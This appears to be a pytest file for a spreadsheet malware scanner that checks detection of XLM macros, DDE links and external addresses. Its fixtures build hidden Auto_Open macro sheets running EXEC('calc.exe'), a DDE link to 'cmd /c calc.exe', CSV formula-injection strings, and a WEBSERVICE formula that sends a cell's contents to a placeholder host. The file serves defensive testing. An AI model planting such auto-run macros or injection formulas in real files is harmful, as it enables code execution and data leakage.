"""From workbooks and tables to bundles, listings and DDE commands, as a scan meets them."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest
from fixturelib import excel, ooxml, xlsb

from emoscan.analyse import analyse
from emoscan.context import Settings
from emoscan.graph import Graph
from emoscan.parse.bundle import XLM_WORKBOOK, load_xlm

MACRO = excel.Workbook(
    [
        excel.Sheet("Data", {"A1": "text"}),
        excel.Sheet(
            "M",
            {"A1": excel.Formula(excel.call("EXEC", excel.text("calc.exe"))), "A2": excel.Formula(excel.call("HALT"))},
            "macro",
            "hidden",
        ),
    ],
    [excel.Name(excel.AUTO_OPEN, 1, "A1")],
)
XLSM = ooxml.excel(
    [ooxml.Sheet("M", {"A1": '=EXEC("calc.exe")', "A2": "=HALT()"}, "hidden", macro=True)], names={"_xlnm.Auto_Open": "M!$A$1"}
)
XLSB = xlsb.workbook([ooxml.Sheet("M", {"A1": '=EXEC("calc.exe")', "A2": "=HALT()"}, macro=True)], {"_xlnm.Auto_Open": "M!$A$1"})
SLK = b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;K0;EEXEC("calc.exe")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n'


def scan(data: bytes, name: str = "x") -> tuple[Graph, str]:
    graphs: list[Graph] = []
    report = analyse(data, name, name, Settings(debug=True), on_graph=graphs.append)
    return graphs[0], report.verdict


def facts(graph: Graph, kind: str) -> list[str]:
    return [fact.value for _, fact in graph.facts() if fact.kind == kind]


@pytest.mark.parametrize(("name", "data"), [("a.xls", MACRO.file()), ("a.xlsm", XLSM.file()), ("a.slk", SLK), ("bare", MACRO.stream())])
def test_macros_of_every_format(name: str, data: bytes) -> None:
    """The macro is found, run and judged alike, whatever it is stored in."""
    graph, verdict = scan(data, name)
    assert "calc.exe" in facts(graph, "effect.run")
    assert facts(graph, "xlm.entry") == ["Auto_Open"]
    assert verdict == "suspicious"
    (bundle,) = [a for a in graph.artifacts.values() if a.kind == XLM_WORKBOOK]
    assert any(sheet.type == "macro" for sheet in load_xlm(bundle.data).workbook.sheets)
    assert any(a.kind == "script.xlm" and b'EXEC("calc.exe")' in a.data for a in graph.artifacts.values())


def test_macros_only_vba_starts() -> None:
    """A macro that nothing leads to shows what it would do, less certainly."""
    graph, _ = scan(excel.Workbook(MACRO.sheets).file(), "a.xls")
    assert [f.confidence for _, f in graph.facts() if f.kind == "effect.run" and f.how == "EXEC"] == [0.5]


def test_workbook_without_macros() -> None:
    graph, verdict = scan(excel.Workbook([excel.Sheet("Data", {"A1": "text"})]).file(), "a.xls")
    assert not any(a.kind.startswith("script") for a in graph.artifacts.values())
    assert verdict == "clean"


def test_locked_sheet_is_read_once_opened() -> None:
    from fixturelib import encrypt

    graph, _ = scan(encrypt.xls(MACRO), "a.xls")
    assert "calc.exe" in facts(graph, "effect.run")


def test_dde_link_of_a_workbook() -> None:
    """A link to a program: SUPBOOK of a workbook without macros ([MS-XLS] 2.4.271)."""
    stream = excel.Workbook([excel.Sheet("Data", {"A1": "text"})]).stream()
    path = "cmd\x03/c calc.exe"
    link = struct.pack("<HHHHB", 0x01AE, 5 + len(path), 0, len(path), 0) + path.encode()
    at = stream.index(struct.pack("<HH", 0x01AE, 4))
    where = struct.pack("<HHI", 0x85, 12, stream.index(struct.pack("<HHHH", 0x0809, 16, 0x0600, 0x10)))
    moved = stream[:at] + link + stream[at:]
    moved = moved.replace(where, where[:4] + struct.pack("<I", struct.unpack("<I", where[4:])[0] + len(link)))
    graph, _ = scan(moved, "a.xls")
    assert facts(graph, "document.dde") == ["cmd /c calc.exe"]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("name,value\na,\"=cmd|'/c calc.exe'!A0\"\n", ["cmd /c calc.exe"]),
        ("a,\uff1dcmd|'/C notepad'!A1\n", ["cmd /C notepad"]),
        ("a,@SUM(1+1)*cmd|' /C calc'!A0\n", ["cmd /C calc"]),
        ("a,-5,+81 3 1234,=A1+B1\n", []),
        ("a|b|c\n1|2|3\n", []),
    ],
)
def test_dde_in_tables(text: str, commands: list[str]) -> None:
    graph, _ = scan(text.encode(), "a.csv")
    assert facts(graph, "document.dde") == commands


def test_addresses_in_tables() -> None:
    graph, _ = scan(b'a,"=WEBSERVICE(""http://files.example.test/?""&A1)"\nb,"=HYPERLINK(""http://other.example.test/"",1)"\n', "a.csv")
    assert facts(graph, "link.external") == ["http://files.example.test/?", "http://other.example.test/"]


@pytest.mark.parametrize(("main", "kept", "data"), [("xl/workbook.xml", 60, XLSM.file()), ("xl/workbook.bin", 12, XLSB.file())])
def test_macro_sheets_of_a_damaged_workbook_are_seen(main: str, kept: int, data: bytes) -> None:
    """Excel repairs such a file or refuses it; here, it is not clean, and its macros are read."""
    whole = zipfile.ZipFile(io.BytesIO(data))
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as package:
        for name in whole.namelist():
            content = whole.read(name)
            package.writestr(name, content[:kept] + b"\x00<\xff" if name == main else content)
        package.writestr("xl/macrosheets/binaryIndex1.bin", b"\x2a\x01\x00")
    graph, verdict = scan(made.getvalue())
    assert len(facts(graph, "xlm.sheet")) == 1
    assert any("does not list" in trouble.problem.message for trouble in graph.troubles)
    assert verdict in ("incomplete", "suspicious", "malicious")


@pytest.mark.parametrize("version", [0, 2, 4])
def test_macro_sheets_of_the_first_excels(version: int) -> None:
    """What of them is missing, the report says."""
    graph, verdict = scan(bytes((9, version, 6, 0, 0, version, 0x40, 0, 0, 0)) + b"\x42\x00\x02\x00\xe4\x04" * 30, "old.xls")
    assert verdict == "incomplete"
    assert [trouble.problem.sort for trouble in graph.troubles] == ["malformed"]
